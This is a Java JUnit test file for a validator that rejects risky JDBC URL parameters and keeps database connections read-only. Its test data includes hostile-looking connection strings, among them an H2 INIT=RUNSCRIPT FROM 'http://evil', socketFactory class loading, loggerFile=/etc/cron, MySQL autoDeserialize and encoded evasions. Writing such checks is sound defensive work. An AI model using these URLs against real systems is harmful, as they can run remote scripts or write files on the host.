package trade.database;

import static org.assertj.core.api.Assertions.assertThatCode;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

class UrlParametersTest {

    @ParameterizedTest
    @ValueSource(
            strings = {
                "jdbc:duckdb:",
                "jdbc:duckdb:data/trade.duckdb",
                "jdbc:sqlite:trade.sqlite",
                "jdbc:postgresql://host:5432/trade?sslmode=require&currentSchema=customs&user=an",
                "jdbc:trino://host:8080/hive/trade?SSL=true",
                "jdbc:duckdb:trade.duckdb;threads=4"
            })
    void what_is_known_to_be_harmless_is_taken(String url) {
        assertThatCode(() -> UrlParameters.check(url, List.of())).doesNotThrowAnyException();
    }

    @ParameterizedTest
    @CsvSource(
            delimiter = '|',
            value = {
                "jdbc:postgresql://host/trade?socketFactory=evil.Factory     | socketfactory",
                "jdbc:postgresql://host/trade?ssl=true&sslfactory=evil       | sslfactory",
                "jdbc:postgresql://host/trade?ssl=true&loggerFile=/etc/cron  | loggerfile",
                "jdbc:postgresql://host/trade?options=-c%20x=y               | options",
                "jdbc:mysql://host/trade?allowLoadLocalInfile=true           | allowloadlocalinfile",
                "jdbc:mysql://host/trade?autoDeserialize                     | autodeserialize",
                "jdbc:mysql://(host=x,autoDeserialize=true)/trade            | host",
                "jdbc:h2:mem:trade;INIT=RUNSCRIPT FROM 'http://evil'         | init",
                "jdbc:h2:mem:trade; init =RUNSCRIPT FROM 'http://evil'       | init",
                "jdbc:duckdb:;allow_unsigned_extensions=true                 | allow_unsigned_extensions",
                "jdbc:duckdb:;session_init_sql_file=evil.sql                 | session_init_sql_file",
                "jdbc:hive2://host/trade;ssl=true#x=y                        | x",
                "jdbc:unknown://host/trade?ssl=true                          | ssl"
            })
    void what_may_load_run_or_write_something_has_to_be_allowed_by_name(String url, String name) {
        assertThatThrownBy(() -> UrlParameters.check(url, List.of()))
                .hasMessage("the URL sets '" + name + "', which may load, run or write something;"
                        + " --allow-url-parameter " + name + " allows it");
    }

    @Test
    void what_is_allowed_is_allowed_whatever_its_case_and_nothing_else_is() {
        String url = "jdbc:h2:mem:trade;INIT=RUNSCRIPT FROM 'x.sql';TRACE_LEVEL_FILE=3";

        assertThatCode(() -> UrlParameters.check(url, List.of("Init", "trace_level_file")))
                .doesNotThrowAnyException();
        assertThatThrownBy(() -> UrlParameters.check(url, List.of("init"))).hasMessageContaining("'trace_level_file'");
    }

    @Test
    void a_name_that_is_encoded_is_read_as_a_driver_decodes_it() {
        for (String url : List.of(
                "jdbc:postgresql://host/x?socket%46actory=evil",
                "jdbc:postgresql://host/x?socket%2546actory=evil", "jdbc:postgresql://host/x%3FsocketFactory%3Devil")) {
            assertThatThrownBy(() -> UrlParameters.check(url, List.of("socket%46actory")))
                    .hasMessageContaining("'socketfactory'");
        }
        assertThatThrownBy(() -> UrlParameters.check("jdbc:postgresql://host/x?100%=5", List.of()))
                .hasMessageContaining("'100%'");
    }

    @ParameterizedTest
    @CsvSource({
        "jdbc:duckdb:x.duckdb;duckdb.read_only=false, duckdb.read_only",
        "jdbc:duckdb:x.duckdb;access_mode=READ_WRITE, access_mode",
        "jdbc:sqlite:x.sqlite?open_mode=6, open_mode",
        "jdbc:sqlite:file:x.sqlite?mode=rwc, mode",
        "jdbc:postgresql://host/trade?readOnlyMode=ignore, readonlymode",
        "jdbc:postgresql://host/trade?readOnly=false, readonly"
    })
    void that_a_connection_only_reads_cannot_be_turned_off_be_it_allowed(String url, String name) {
        assertThatThrownBy(() -> UrlParameters.check(url, List.of(name)))
                .hasMessage("the URL cannot set '" + name + "', as connections only read");
    }
}
